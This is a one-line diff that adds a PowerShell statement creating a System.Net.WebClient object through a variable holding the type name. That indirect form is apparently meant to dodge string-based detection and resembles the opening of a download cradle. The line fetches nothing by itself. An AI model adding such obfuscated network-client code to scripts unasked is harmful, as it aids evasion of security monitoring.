@@ -1,0 +1,1 @@
+$n = 'System.Net.WebClient'; New-Object $n
